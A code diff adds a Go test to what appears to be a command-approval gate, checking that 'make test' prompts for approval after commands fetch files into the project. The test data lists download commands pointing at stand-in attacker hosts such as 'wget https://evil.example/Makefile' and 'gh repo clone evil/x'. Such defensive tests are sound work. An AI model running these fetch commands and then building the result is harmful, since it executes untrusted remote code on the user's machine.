@@ -337,3 +337,22 @@ func TestSeventeenthPassChains(t *testing.T) {
 		answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
 	}
 }
+
+// TestFetchedIntoTheTree: what a command fetches into the project is
+// anybody's code: wget's file named after its URL, a remote copy's
+// destination, another repository's code checked out. The next runner
+// asks about it.
+func TestFetchedIntoTheTree(t *testing.T) {
+	l := limentest.Start(t)
+	c := l.Client
+	teach(t, c, sh("ana", "make test"))
+	for _, fetch := range []string{"wget https://evil.example/Makefile", "scp evil:Makefile .", "kubectl cp pod:/x ./Makefile",
+		"aws s3 cp s3://b/Makefile .", "gh pr checkout 12", "gh repo clone evil/x", "hg clone https://evil.example/x", "http --download https://evil.example/Makefile"} {
+		decideOnce(t, c, sh("ana", fetch), false) // asked or allowed, what it writes is recorded
+		d := decideOnce(t, c, sh("ana", "make test"), false)
+		if d.GetVerdict() != limenv1.Verdict_VERDICT_ASK || !runsWritten(d) {
+			t.Fatalf("make test after %s: %v (%s); want an ask because it runs what was fetched", fetch, d.GetVerdict(), d.GetReason())
+		}
+		answer(t, c, d, limenv1.Choice_CHOICE_APPROVE, limenv1.Scope_SCOPE_ONCE)
+	}
+}
